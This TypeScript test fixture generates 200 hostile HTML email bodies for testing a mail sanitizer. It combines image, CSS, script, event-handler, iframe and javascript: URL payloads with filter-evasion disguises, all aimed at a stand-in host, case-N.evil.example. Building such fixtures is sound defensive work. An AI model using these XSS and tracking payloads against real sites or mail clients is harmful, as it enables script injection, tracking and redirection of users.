// Two hundred hostile bodies of mail, generated from attacks and from ways to hide them. Every address names its case.

/** The host of a case resolves to the trap of the test. */
const hostOf = (index: number): string => `case-${index}.evil.example`

type Attack = (url: string) => string

const loads: Attack[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x, ${url}?2 2x" src="data:,">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<input type="image" src="${url}">`,
  (url) => `<video poster="${url}" src="${url}" autoplay></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
  (url) => `<body background="${url}">x</body>`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<link rel="icon" href="${url}"><link rel="preload" as="image" href="${url}"><link rel="prefetch" href="${url}">`,
  (url) => `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
  (url) => `<svg><image href="${url}" xlink:href="${url}"/><use href="${url}#a"/></svg>`,
  (url) => `<math><mglyph src="${url}"/></math>`,
  (url) => `<object data="${url}"></object><embed src="${url}"><applet code="${url}"></applet>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<track src="${url}"><base href="${url}"><img src="relative.png">`,
]

const styles: Attack[] = [
  (url) => `<div style="background:url(${url})">x</div>`,
  (url) => `<div style="background-image:image-set('${url}' 1x)">x</div>`,
  (url) => `<div style="list-style:url('${url}');content:url(${url})">x</div>`,
  (url) => `<div style="background:u\\72l(${url})">x</div>`,
  (url) => `<div style="cursor:url(${url}),auto;border-image:url(${url})">x</div>`,
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<style>@import "${url}";body{color:red}</style>`,
  (url) => `<style>@font-face{font-family:a;src:url(${url})}*{font-family:a}</style>`,
  (url) => `<style>input[value^="a"]{background:url(${url})}p{background:url(${url}?p)}</style><input value="abc"><p>x</p>`,
  (url) => `<style>@media all{p::before{content:url(${url})}}</style><p>x</p>`,
  (url) => `<style>p{background:/**/url(/**/${url})}</style><p>x</p>`,
  (url) => `<style>p{-webkit-mask:url(${url});filter:url(${url}#f)}</style><p>x</p>`,
  (url) => `<div style="behavior:url(${url});-moz-binding:url(${url}#x)">x</div>`,
]

const scripts: Attack[] = [
  (url) => `<script>new Image().src='${url}'</script>`,
  (url) => `<img src=x onerror="new Image().src='${url}'">`,
  (url) => `<svg onload="fetch('${url}')"></svg>`,
  (url) => `<body onload="location='${url}'">x</body>`,
  (url) => `<details open ontoggle="fetch('${url}')">x</details>`,
  (url) => `<input autofocus onfocus="fetch('${url}')">`,
  (url) => `<svg><script>fetch('${url}')</script></svg>`,
  (url) => `<math><mtext><script>fetch('${url}')</script></mtext></math>`,
  (url) => `<svg><animate attributeName="href" values="javascript:fetch('${url}')"/></svg>`,
  (url) => `<noscript><p title="</noscript><img src=x onerror=fetch('${url}')>"></noscript>`,
  (url) => `<template><script>fetch('${url}')</script></template><xmp><script>fetch('${url}')</script></xmp>`,
  (url) => `<marquee onstart="fetch('${url}')">x</marquee><video><source onerror="fetch('${url}')"></video>`,
]

const navigations: Attack[] = [
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<script>top.location='${url}'</script>"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<portal src="${url}"></portal>`,
  (url) => `<form action="${url}" method="post"><button autofocus>x</button></form><script>document.forms[0].submit()</script>`,
  (url) => `<a href="javascript:top.location='${url}'">x</a>`,
  (url) => `<a href="&#106;avascript:fetch('${url}')">x</a><a href="java\tscript:fetch('${url}')">x</a>`,
  (url) => `<a href="data:text/html,<script>fetch('${url}')</script>" target="_top">x</a>`,
  (url) => `<a id="defaultView" name="parent" href="vbscript:x" ping="${url}">x</a><map><area href="javascript:fetch('${url}')"></map>`,
  (url) => `<iframe src="javascript:parent.location='${url}'"></iframe><object data="javascript:fetch('${url}')"></object>`,
]

/** Ways to get a body past a filter that reads text instead of parsing HTML. */
const disguises: ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`).replace(/="/g, ' = "'),
  (html) => `<table><td><p>${html.replace(/<([a-z]+) /gi, '<$1/x/ ')}</td>`,
  (html) => `<!--><!---->${html}<plaintext>`,
]

export type HostileCase = { index: number; html: string }

/** Four in a row are one attack in its four disguises. */
export const hostileCases: HostileCase[] = [...loads, ...styles, ...scripts, ...navigations]
  .flatMap((attack) => disguises.map((disguise) => ({ attack, disguise })))
  .slice(0, 200)
  .map(({ attack, disguise }, index) => ({ index, html: disguise(attack(`http://${hostOf(index)}/pixel`)) }))
